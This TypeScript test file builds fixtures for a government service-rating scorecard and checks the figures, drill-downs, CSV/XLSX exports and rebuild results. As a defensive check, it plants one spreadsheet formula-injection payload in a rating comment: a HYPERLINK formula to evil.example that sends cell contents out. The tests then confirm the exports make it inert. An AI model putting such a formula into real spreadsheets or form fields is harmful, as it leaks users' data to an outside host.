/**
 * Scorecard fixtures (考核表): October 2025 by department, every figure computed by hand below, then
 * read back from the scorecard, from the XLSX and CSV exports, from the drill-down, and after a rebuild.
 */
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { defaultAppraisalRules } from '../../core/appraisal/rules.ts';
import type { WarningEvent } from '../../core/warning/events.ts';
import { ratingsProjection } from '../ratings/projection.ts';
import { startProjector } from '../runtime/projector.ts';
import { rebuildProjection } from '../runtime/rebuild.ts';
import type { Engine } from '../testing/engines.ts';
import { engines } from '../testing/engines.ts';
import { appendWarning, rate, rectifiedWarning, subject, warningRaised } from '../testing/events.ts';
import { warningsProjection } from '../warnings/projection.ts';
import type { Scorecard } from '../queries/scorecards.ts';
import { appraisalScorecard } from '../queries/scorecards.ts';
import { evidenceMetrics, scorecardEvidence } from './evidence.ts';
import { evidenceCsv, evidenceXlsx, scorecardCsv, scorecardTable, scorecardXlsx } from './export.ts';

const PERIOD = '2025-10';
// After the period: its figures are counted at its end, 2025-11-01 00:00 Beijing = 2025-10-31T16:00Z, and
// every warning's 15 days to rectify have run out (the last by 2025-11-16 00:00 Beijing).
const NOW = new Date('2025-11-20T00:00:00.000Z');
const rules = { version: 0, value: defaultAppraisalRules };
const INJECTION = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")';

const zj = subject({
  department: { code: 'D-ZJ', name: '住建局' },
  window: { code: 'W-5', name: '5号窗口' },
  staff: { id: 'S-5', displayName: '5号' },
});

const appendFixture = async (e: Engine) => {
  // ── 市场监管局 D-MKT ── five ratings, one excluded by an upheld appeal, one reopened warning.
  await rate(e.store, 'm-5', '2025-10-02T02:00:00.000Z', { overall: 5, comment: INJECTION });
  await rate(e.store, 'm-4', '2025-10-02T03:00:00.000Z', { overall: 4 });
  const m2 = await rate(e.store, 'm-2', '2025-10-03T02:00:00.000Z', { overall: 2 });
  const m1 = await rate(e.store, 'm-1', '2025-10-04T02:00:00.000Z', { overall: 1 });
  await rate(e.store, 'm-3', '2025-10-05T02:00:00.000Z', { overall: 3 });
  const [raised, dispatched, deadline, replied, phone, onSite, closed] = rectifiedWarning('mkt-reopened', '2025-10-03T03:00:00.000Z', {
    ratingEventId: m2,
  });
  await appendWarning(e.store, 'mkt-reopened', [
    raised!,
    dispatched!,
    deadline!,
    replied!,
    { type: 'WarningReopened', data: { count: 1, failedCheck: 'on_site', at: '2025-10-05T03:00:00.000Z' } },
    { ...replied!, data: { ...(replied!.data as object), round: 1, at: '2025-10-06T03:00:00.000Z' } } as WarningEvent,
    phone!,
    onSite!,
    closed!,
  ]);
  await appendWarning(e.store, 'mkt-appeal', [
    warningRaised('mkt-appeal', '2025-10-04T03:00:00.000Z', { ratingEventId: m1 }),
    {
      type: 'AppealFiled',
      data: { by: 'S-7', department: 'D-MKT', reason: '恶意评价', evidence: [], at: '2025-10-04T04:00:00.000Z' },
    },
    {
      type: 'AppealReviewed',
      data: { by: 'u-lead', decision: 'upheld', reason: '属实', ratingEventId: m1, ratingExcludedFromAppraisal: true, at: '2025-10-05T04:00:00.000Z' },
    },
    { type: 'WarningClosed', data: { outcome: 'appeal_upheld', ratingExcludedFromAppraisal: true, at: '2025-10-05T04:00:01.000Z' } },
  ]);

  // ── 住建局 D-ZJ ── one 非常满意, six 非常不满意 each raising a warning:
  //   z1 10-10 open (unrectified) · z2 10-11 rectified · z3 10-12 open · z4 10-13 never dispatched ·
  //   z5 10-14 dispatched late, open · z6 10-25 open, its 15 days run out after the period's end (11-09).
  await rate(e.store, 'z-5', '2025-10-09T02:00:00.000Z', { overall: 5, subject: zj });
  const open = (id: string, at: string, ratingEventId: string, dispatchAfterMinutes = 30) =>
    appendWarning(
      e.store,
      id,
      rectifiedWarning(id, at, { ratingEventId, department: 'D-ZJ', windowId: 'W-5', dispatchAfterMinutes }).slice(0, 3),
    );
  const days = ['10', '11', '12', '13', '14', '25'];
  const ratingIds: string[] = [];
  for (const [i, day] of days.entries()) {
    ratingIds.push(await rate(e.store, `z-1-${i + 1}`, `2025-10-${day}T02:00:00.000Z`, { overall: 1, subject: zj }));
  }
  await open('zj-1', '2025-10-10T03:00:00.000Z', ratingIds[0]!);
  await appendWarning(
    e.store,
    'zj-2',
    rectifiedWarning('zj-2', '2025-10-11T03:00:00.000Z', { ratingEventId: ratingIds[1]!, department: 'D-ZJ', windowId: 'W-5' }),
  );
  await open('zj-3', '2025-10-12T03:00:00.000Z', ratingIds[2]!);
  await appendWarning(e.store, 'zj-4', [
    warningRaised('zj-4', '2025-10-13T03:00:00.000Z', { ratingEventId: ratingIds[3]!, department: 'D-ZJ', windowId: 'W-5' }),
  ]);
  await open('zj-5', '2025-10-14T03:00:00.000Z', ratingIds[4]!, 90);
  await open('zj-6', '2025-10-25T03:00:00.000Z', ratingIds[5]!);
};

const project = async (e: Engine) => {
  for (const projection of [ratingsProjection, warningsProjection]) {
    const projector = startProjector(e, projection, { pollIntervalMs: 20 });
    await projector.caughtUp();
    await projector.stop();
  }
};

/** The fixtures, by hand. */
const expected = {
  'D-MKT': {
    // Counted ratings m-5, m-4, m-2, m-3 (m-1 excluded by the upheld appeal): 4.
    rated: 4,
    levels: { 5: 1, 4: 1, 3: 1, 2: 1, 1: 0 },
    excludedRatings: 1,
    goodRate: { value: 0.5, numerator: 2, denominator: 4 }, // (1 + 1) ÷ 4
    satisfiedRate: { value: 0.75, numerator: 3, denominator: 4 }, // (1 + 1 + 1) ÷ 4
    negativeRate: { value: 0.25, numerator: 1, denominator: 4 }, // (1 + 0) ÷ 4
    warnings: 1, // mkt-reopened; mkt-appeal's rating is excluded, so it counts only as an upheld appeal
    rectificationCompletionRate: { value: 1, numerator: 1, denominator: 1 },
    onTimeDispatchRate: { value: 1, numerator: 1, denominator: 1 }, // dispatched after 30 min of 60
    onTimeReplyRate: { value: 1, numerator: 2, denominator: 2 }, // round 0 and round 1, both on time
    reopenings: 1,
    appealsUpheld: 1,
    // The reopened warning counts as unrectified (rules default), a run of 1 < 3: eligible.
    eligibility: { eligible: true, limit: 3, longestRun: 1, causes: [] },
  },
  'D-ZJ': {
    rated: 7, // 1 × 非常满意 + 6 × 非常不满意
    levels: { 5: 1, 4: 0, 3: 0, 2: 0, 1: 6 },
    excludedRatings: 0,
    goodRate: { value: 1 / 7, numerator: 1, denominator: 7 },
    satisfiedRate: { value: 1 / 7, numerator: 1, denominator: 7 },
    negativeRate: { value: 6 / 7, numerator: 6, denominator: 7 },
    warnings: 6,
    rectificationCompletionRate: { value: 1 / 6, numerator: 1, denominator: 6 }, // zj-2 only
    // Due: z1 z2 z3 z5 z6 dispatched + z4 overdue undispatched = 6; on time: all dispatched but z5 (90 min) = 4.
    onTimeDispatchRate: { value: 4 / 6, numerator: 4, denominator: 6 },
    // Due rounds: z2's reply (on time) + z1 z3 z5 z6 awaiting a reply past their 3 days at NOW = 5; on time 1.
    onTimeReplyRate: { value: 1 / 5, numerator: 1, denominator: 5 },
    reopenings: 0,
    appealsUpheld: 0,
    // In raise order: z1 U, z2 R (breaks), z3 U, z4 U, z5 U (run of 3 → 取消评先资格), z6 U: judged when its
    // 15 days ran out (11-09, before NOW), not at the period's end, where it would stay pending for good.
    eligibility: { eligible: false, limit: 3, longestRun: 4, causes: ['zj-3', 'zj-4', 'zj-5', 'zj-6'] },
  },
} as const;

for (const engine of engines('scorecard fixtures')) {
  describe(`scorecard fixtures on ${engine.name}`, () => {
    let e: Engine;
    let card: Scorecard;
    beforeAll(async () => {
      e = await engine.open();
      await appendFixture(e);
      await project(e);
      card = await appraisalScorecard(e.db, { unit: 'department', period: PERIOD, now: NOW, rules });
    });
    afterAll(async () => {
      await e?.close();
    });

    it('equals the hand-computed figures: upheld appeal, reopened warning, 3 consecutive unrectified warnings', () => {
      expect(card.asOf).toBe('2025-10-31T16:00:00.000Z');
      expect(card.closed).toBe(true);
      expect(card.rows.map((row) => [row.unit, row.label])).toEqual([
        ['D-MKT', '市场监管局'],
        ['D-ZJ', '住建局'],
      ]);
      for (const row of card.rows) {
        const want = expected[row.unit as keyof typeof expected];
        expect(row).toMatchObject({ ...want, goodRate: { numerator: want.goodRate.numerator, denominator: want.goodRate.denominator } });
        for (const key of ['goodRate', 'satisfiedRate', 'negativeRate', 'rectificationCompletionRate', 'onTimeDispatchRate', 'onTimeReplyRate'] as const) {
          expect(row[key].value, `${row.unit} ${key}`).toBeCloseTo(want[key].value, 12);
          expect([row[key].numerator, row[key].denominator]).toEqual([want[key].numerator, want[key].denominator]);
        }
      }
    });

    it('every number opens onto the ratings and warnings behind it, which add up to it', async () => {
      for (const row of card.rows) {
        for (const metric of evidenceMetrics) {
          const evidence = await scorecardEvidence(e.db, { unit: 'department', code: row.unit, period: PERIOD, metric, now: NOW, rules: rules.value });
          const items = [...evidence.ratings, ...evidence.warnings];
          const sum = (key: 'numerator' | 'denominator') => items.reduce((n, item) => n + item[key], 0);
          const figure = {
            rated: [row.rated, row.rated],
            good_rate: [row.goodRate.numerator, row.goodRate.denominator],
            satisfied_rate: [row.satisfiedRate.numerator, row.satisfiedRate.denominator],
            negative_rate: [row.negativeRate.numerator, row.negativeRate.denominator],
            excluded_ratings: [row.excludedRatings, row.excludedRatings],
            warnings: [row.warnings, row.warnings],
            rectification_completion_rate: [row.rectificationCompletionRate.numerator, row.rectificationCompletionRate.denominator],
            on_time_dispatch_rate: [row.onTimeDispatchRate.numerator, row.onTimeDispatchRate.denominator],
            on_time_reply_rate: [row.onTimeReplyRate.numerator, row.onTimeReplyRate.denominator],
            reopenings: [row.reopenings, row.reopenings],
            appeals_upheld: [row.appealsUpheld, row.appealsUpheld],
            // Unrectified among the appraised warnings (pending ones count in neither).
            award_eligible: row.unit === 'D-ZJ' ? [5, 6] : [1, 1],
          }[metric];
          expect([sum('numerator'), sum('denominator')], `${row.unit} ${metric}`).toEqual(figure);
        }
      }
      const cause = await scorecardEvidence(e.db, { unit: 'department', code: 'D-ZJ', period: PERIOD, metric: 'award_eligible', now: NOW, rules: rules.value });
      expect(cause.warnings.filter((w) => w.causesIneligibility).map((w) => w.warningId)).toEqual(['zj-3', 'zj-4', 'zj-5', 'zj-6']);
      expect(cause.warnings.map((w) => [w.warningId, w.rectification])).toEqual([
        ['zj-1', 'unrectified'],
        ['zj-2', 'rectified'],
        ['zj-3', 'unrectified'],
        ['zj-4', 'unrectified'],
        ['zj-5', 'unrectified'],
        ['zj-6', 'unrectified'],
      ]);
    });

    it('the XLSX opens, its values equal the fixtures, its header row is frozen and rates are % numbers', async () => {
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load((await scorecardXlsx(card, { created: NOW })) as unknown as ArrayBuffer);
      const sheet = workbook.worksheets[0]!;
      expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
      const headers = (sheet.getRow(1).values as unknown[]).slice(1);
      expect(headers).toEqual(scorecardTable(card).columns.map((c) => c.header));
      expect(sheet.getRow(1).font?.bold).toBe(true);
      const column = (name: string) => headers.indexOf(name) + 1;
      const cell = (row: number, name: string) => sheet.getRow(row).getCell(column(name));
      for (const [index, unit] of (['D-MKT', 'D-ZJ'] as const).entries()) {
        const want = expected[unit];
        const r = index + 2;
        expect(cell(r, '部门代码').value).toBe(unit);
        expect(cell(r, '评价数').value).toBe(want.rated);
        expect(cell(r, '申诉成立剔除评价数').value).toBe(want.excludedRatings);
        expect(cell(r, '好评率').value as number).toBeCloseTo(want.goodRate.value, 12);
        expect(cell(r, '好评率').numFmt).toBe('0.0%');
        expect(cell(r, '好评数').value).toBe(want.goodRate.numerator);
        expect(cell(r, '整改完成率').value as number).toBeCloseTo(want.rectificationCompletionRate.value, 12);
        expect(cell(r, '整改到位数').value).toBe(want.rectificationCompletionRate.numerator);
        expect(cell(r, '按时派单率').value as number).toBeCloseTo(want.onTimeDispatchRate.value, 12);
        expect(cell(r, '应派单数').value).toBe(want.onTimeDispatchRate.denominator);
        expect(cell(r, '按时答复率').value as number).toBeCloseTo(want.onTimeReplyRate.value, 12);
        expect(cell(r, '重新整改次数').value).toBe(want.reopenings);
        expect(cell(r, '申诉成立数').value).toBe(want.appealsUpheld);
        expect(cell(r, '评先资格').value).toBe(want.eligibility.eligible ? '保留' : '取消评先资格');
        expect(cell(r, '取消依据(预警)').value).toBe(want.eligibility.causes.join(', '));
      }
    });

    it('CSV starts with the BOM, uses CRLF, and a formula in a rating comment comes out inert (CSV and XLSX)', async () => {
      const csv = scorecardCsv(card);
      expect(csv.startsWith('\uFEFF部门代码,')).toBe(true);
      expect(csv.split('\r\n')).toHaveLength(4); // header, two departments, final CRLF
      const evidence = await scorecardEvidence(e.db, { unit: 'department', code: 'D-MKT', period: PERIOD, metric: 'good_rate', now: NOW, rules: rules.value });
      const comments = evidence.ratings.map((r) => r.comment);
      expect(comments).toContain(INJECTION);
      const evidenceText = evidenceCsv(evidence);
      expect(evidenceText.startsWith('\uFEFF')).toBe(true);
      expect(evidenceText).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""点此查看"")"`);
      expect(evidenceText).not.toMatch(/(^|,)"?=HYPERLINK/m);
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load((await evidenceXlsx(evidence, { created: NOW })) as unknown as ArrayBuffer);
      const values = workbook.worksheets[0]!.getSheetValues().flat().filter((v) => typeof v === 'string');
      expect(values).toContain(`'${INJECTION}`);
      expect(values).not.toContain(INJECTION);
    });

    it('times are Beijing wall-clock dates (CSV text, XLSX date cells) and codes are words, in the chosen language', async () => {
      const ratings = await scorecardEvidence(e.db, { unit: 'department', code: 'D-MKT', period: PERIOD, metric: 'good_rate', now: NOW, rules: rules.value });
      const m5 = ratings.ratings.find((r) => r.submittedAt === '2025-10-02T02:00:00.000Z')!;
      const csv = evidenceCsv(ratings).split('\r\n');
      expect(csv[0]).toContain('评价时间(北京时间)');
      expect(csv.find((line) => line.startsWith(m5.ratingId))).toContain(',2025-10-02 10:00:00,');
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load((await evidenceXlsx(ratings, { created: NOW })) as unknown as ArrayBuffer);
      const sheet = workbook.worksheets[0]!;
      const row = sheet.getRows(2, ratings.ratings.length)!.find((r) => r.getCell(1).value === m5.ratingId)!;
      const at = row.getCell(2);
      expect(at.value).toBeInstanceOf(Date);
      expect((at.value as Date).toISOString()).toBe('2025-10-02T10:00:00.000Z'); // Excel's serial is the wall clock
      expect(at.numFmt).toBe('yyyy-mm-dd hh:mm:ss');
      expect(['短信链接', '办件二维码', '窗口二维码']).toContain(row.getCell(4).value);
      expect(evidenceCsv(ratings, 'en').split('\r\n')[0]).toContain('Submitted at (Beijing time)');

      const warnings = await scorecardEvidence(e.db, { unit: 'department', code: 'D-ZJ', period: PERIOD, metric: 'award_eligible', now: NOW, rules: rules.value });
      const text = evidenceCsv(warnings);
      expect(text).toContain('未整改');
      expect(text).not.toMatch(/awaiting_|,unrectified,|,none,/);
      expect(evidenceCsv(warnings, 'en')).toContain('Not rectified');
      const notes = new ExcelJS.Workbook();
      await notes.xlsx.load((await scorecardXlsx(card, { created: NOW })) as unknown as ArrayBuffer);
      const asOf = notes.worksheets[1]!.getSheetValues().find((values) => Array.isArray(values) && values[1] === '统计截止(北京时间)') as unknown[];
      expect(asOf[2]).toBe('2025-11-01 00:00:00');
    });

    it('a closed period gives the identical scorecard after a projection rebuild', async () => {
      for (const projection of [ratingsProjection, warningsProjection]) {
        const result = await rebuildProjection(e, { ...projection, version: projection.version + 1 });
        expect(result.activated).toBe(true);
      }
      const rebuilt = await appraisalScorecard(e.db, { unit: 'department', period: PERIOD, now: new Date('2026-01-05T00:00:00Z'), rules });
      // A later clock changes nothing in a closed period whose warnings' deadlines have all passed.
      expect(rebuilt.rows.map((r) => r.eligibility)).toEqual(card.rows.map((r) => r.eligibility));
      expect(rebuilt).toEqual(card);
      const same = await appraisalScorecard(e.db, { unit: 'department', period: PERIOD, now: NOW, rules });
      expect(same).toEqual(card);
      expect(scorecardCsv(same)).toBe(scorecardCsv(card));
    });
  });
}
